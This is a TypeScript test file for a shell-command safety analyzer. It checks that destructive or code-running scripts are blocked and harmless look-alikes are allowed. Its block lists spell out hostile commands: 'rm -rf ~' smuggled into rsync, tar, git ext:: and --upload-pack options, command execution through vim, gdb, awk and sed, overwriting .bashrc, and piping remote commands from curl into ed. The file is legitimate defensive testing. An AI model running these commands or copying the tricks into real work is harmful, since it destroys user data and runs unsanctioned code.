// Code runners beyond their spec examples: code in a language seatbelt does not read blocks unless it
// is one of the inert forms (also on standard input: ed, ex, make -f -), shell strings in options are
// judged like any script, and git's own analysis reads grep -O, ext:: remotes and --upload-pack.
import { describe, expect, it } from 'vitest';
import { defaultAnalyzer } from '../../src/engine/default-engine.js';
import { applyPolicy } from '../../src/policy/apply.js';
import { SAFE_DEFAULTS } from '../../src/policy/policies.js';
import { ctx } from '../rules/shell/helpers.js';

const decide = async (script: string) =>
  applyPolicy(await defaultAnalyzer.analyze({ kind: 'shell', script }, ctx), SAFE_DEFAULTS, undefined, { ctx });

function cases(title: string, block: string[], allow: string[]): void {
  describe(title, () => {
    for (const script of block) {
      it(`blocks ${script}`, async () => {
        const d = await decide(script);
        expect(d.decision, d.reason).toBe('block');
      });
    }
    for (const script of allow) {
      it(`allows ${script}`, async () => {
        const d = await decide(script);
        expect(d.decision, `${d.reason} ${d.blocking.map((m) => `${m.ruleId}: ${m.evidence}`).join('; ')}`).toBe('allow');
      });
    }
  });
}

cases(
  'code on standard input in a language seatbelt does not read',
  [
    "ed -s f <<< '!rm -rf ~'",
    "ed -s f <<< $'1d\\nw /home/user/.bashrc'",
    "ex -s f <<< '!rm -rf ~'",
    "make -f - <<< $'all:\\n\\techo hi'",
    "make -f /dev/stdin <<< 'all:'",
    'curl -s x.example/cmds | ed -s f',
  ],
  ["ed -s f <<< $'1d\\nw'", "ed -s f <<< $',s/foo/bar/g\\nw\\nq'", "ex -s f <<< $'%s/a/b/g\\nwq'", 'ed f', 'make -f build.mk all'],
);

cases(
  'inert forms',
  [
    "vim -c 'normal @q' f",
    'vim -c \'%s/x/\\=system("id")/\' f',
    "vim -c 'so evil.vim' f",
    'vim -c \'set foldexpr=system("id")\' f',
    "less '+v' f",
    'gdb -batch -ex \'call system("id")\' ./app',
    "gdb -batch -ex 'run; id' ./app",
    'awk \'{print $0 |& "sh"}\' f',
    "sed 's/x/id/e' f",
    "sed '$e id' f",
    'tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=id x',
  ],
  [
    "vim -es -c '%s/\\s\\+$//e' -c 'wq' f",
    "vim -c 'set ts=4 sw=4 et' -c retab -c wq f",
    'less +50% f',
    "less '+/ERROR' app.log",
    "gdb -batch -ex 'info registers' -ex bt ./app core",
    "awk 'a || b {print}' f",
    "awk '{ sum += $2 } END { print sum }' f",
    "sed -n '/^e/p' f",
    "sed 's/one/two/w changes.txt' f",
    'tar -cf a.tar --checkpoint=100 --checkpoint-action=echo x',
  ],
);

cases(
  'shell strings and programs in options',
  [
    "rsync -e 'rm -rf ~' a b:",
    "tar -xf a.tar --to-command='rm -rf ~'",
    "man -H'rm -rf ~' ls",
    "perf stat --post 'rm -rf ~' true",
    "hyperfine --cleanup 'rm -rf ~' true",
    "fzf --with-shell 'rm -rf ~'",
  ],
  ["rsync -e 'ssh -i ~/.ssh/deploy' a host:b", "tar --to-command='sha256sum' -xf a.tar", 'man -Hfirefox ls', "perf stat --pre 'sync' true"],
);

cases(
  'git: programs named by grep -O, ext:: remotes and the other side of a transfer',
  [
    "git grep -O'rm -rf ~' foo",
    "git grep --open-files-in-pager='rm -rf ~' foo",
    "git -c protocol.ext.allow=always fetch 'ext::sh -c rm% -rf% ~'",
    "git -c protocol.ext.allow=always clone 'ext::rm -rf ~' x",
    "git -c remote.origin.url='ext::rm -rf ~' fetch origin",
    "git clone --upload-pack='rm -rf ~; git-upload-pack' ./repo x",
    "git ls-remote --upload-pack='rm -rf ~' .",
  ],
  [
    'git grep -O foo',
    'git grep -Ovim TODO',
    'git fetch origin',
    'git clone https://github.com/acme/app.git',
    "git push --receive-pack='sudo -u git git-receive-pack' origin main",
    'git fetch -u origin',
  ],
);
